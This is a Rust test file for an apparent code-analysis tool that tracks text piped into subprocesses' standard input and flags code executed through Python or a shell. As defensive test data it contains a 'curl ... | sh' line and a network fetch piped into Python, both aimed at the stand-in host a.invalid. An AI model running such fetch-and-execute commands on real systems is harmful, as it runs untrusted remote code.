//! Claims about what programs are given on their standard input.

#[allow(dead_code, reason = "shared with other tests")]
mod common;

use common::events_of;
use venin_model::{Event, Family, OriginKind, Role};

const IMPORTS: &str = "import asyncio, os, shutil, subprocess, sys, urllib.request\nPIPE = subprocess.PIPE\n";

/// How a text reaches the standard input of `COMMAND`.
const WAYS: [&str; 14] = [
    "subprocess.run(COMMAND, input=TEXT)",
    "subprocess.check_output(COMMAND, input=TEXT)",
    "p = subprocess.Popen(COMMAND, stdin=PIPE)\np.stdin.write(TEXT)\np.stdin.close()",
    "with subprocess.Popen(COMMAND, stdin=PIPE) as p:\n    p.stdin.write(TEXT)",
    "subprocess.Popen(COMMAND, stdin=PIPE).communicate(TEXT)",
    "subprocess.Popen(args=COMMAND, stdin=PIPE).communicate(input=TEXT, timeout=3)",
    "p = subprocess.Popen(COMMAND, stdin=PIPE, text=True)\np.stdin.buffer.write(TEXT)",
    "p = subprocess.Popen(COMMAND, stdin=PIPE)\np.stdin.writelines([TEXT])",
    "p = subprocess.Popen(COMMAND, stdin=PIPE)\nos.write(p.stdin.fileno(), TEXT)",
    "p = subprocess.Popen(COMMAND, stdin=PIPE, text=True)\nprint(TEXT, file=p.stdin, flush=True)",
    "async def m():\n    p = await asyncio.create_subprocess_exec(*COMMAND, stdin=PIPE)\n    p.stdin.write(TEXT)\n    \
     await p.stdin.drain()\nasyncio.run(m())",
    "async def m():\n    p = await asyncio.create_subprocess_exec(*COMMAND, stdin=PIPE)\n    \
     await p.communicate(TEXT)\nasyncio.run(m())",
    "async def m():\n    p = await asyncio.create_subprocess_shell(' '.join(COMMAND), stdin=PIPE)\n    \
     await p.communicate(TEXT)\nasyncio.run(m())",
    "os.popen(' '.join(COMMAND), 'w').write(TEXT)",
];

fn events_with(command: &str, text: &str, way: &str) -> Vec<Event> {
    events_of(&format!("{IMPORTS}COMMAND = {command}\nTEXT = {text}\n{way}\n"))
}

#[test]
fn source_that_python_is_given_is_a_layer() {
    for way in WAYS {
        for (command, text) in [
            ("[sys.executable, '-']", "b'import os\\nos.system(\"echo\")'"),
            ("['python3']", "'import os\\nos.system(\"echo\")'"),
        ] {
            let events = events_with(command, text, way);
            let layer = events.iter().any(|e| &*e.name == "os.system" && e.site.layer == 1);
            assert!(layer, "{command} {way}");
        }
    }
}

#[test]
fn text_that_a_shell_is_given_is_read_as_its_commands() {
    for way in WAYS {
        for command in ["['sh']", "['/bin/bash', '-s']"] {
            let events = events_with(command, "b'curl -s https://a.invalid/x | sh\\n'", way);
            assert!(events.iter().any(|e| &*e.name == "sh:curl"), "{command} {way}");
        }
    }
}

#[test]
fn what_came_from_elsewhere_is_an_event_with_its_command_and_origin() {
    for way in WAYS {
        let fetched = "urllib.request.urlopen('https://a.invalid/o').read()";
        let events = events_with("['python3', '-']", fetched, way);
        let is_given = |e: &&Event| {
            e.class.family == Family::Cs
                && e.arguments
                    .iter()
                    .any(|a| a.role == Role::Data && a.origins.kinds.contains(OriginKind::Network))
        };
        let given = events.iter().find(is_given).unwrap_or_else(|| panic!("nothing is given: {way}"));
        assert!(given.text(Role::Command).is_some(), "{way}");
    }
}

#[test]
fn a_file_that_stands_for_the_input_is_read() {
    let way = "open('/opt/x.txt', 'w').write('import os\\nos.system(\"echo\")')\n\
               subprocess.run(['python3'], stdin=open('/opt/x.txt'))";
    let events = events_with("None", "None", way);
    assert!(events.iter().any(|e| &*e.name == "os.system" && e.site.layer == 1));
}

#[test]
fn a_program_that_runs_something_else_is_given_data() {
    for command in
        ["['cat']", "[sys.executable, 'tool.py']", "[sys.executable, '-m', 'json.tool']", "['ffmpeg', '-']"]
    {
        for way in WAYS {
            let events = events_with(command, "'import os\\nos.system(\"echo\")'", way);
            assert!(!events.iter().any(|e| e.site.layer > 0), "{command} {way}");
        }
    }
}

#[test]
fn a_text_that_is_given_again_is_read_once() {
    let way = "p = subprocess.Popen(['sh'], stdin=PIPE)\nfor n in (1, 2, 3):\n    p.stdin.write(b'curl -s https://a.invalid/x')";
    let events = events_with("None", "None", way);
    assert_eq!(events.iter().filter(|e| &*e.name == "sh:curl").count(), 1);
}

#[test]
fn an_unknown_command_is_one_word_whatever_brackets_its_origin_has() {
    for source in ["os.system(open('x').read())", "os.system('cd /tmp; ' + open('x').read().split('(')[0])"] {
        let events = events_of(&format!("import os\n{source}\n"));
        let names: Vec<&str> = events.iter().map(|event| &*event.name).collect();
        assert!(!names.iter().any(|name| name.starts_with("sh:") && name.contains(['.', '⟩'])), "{names:?}");
    }
}
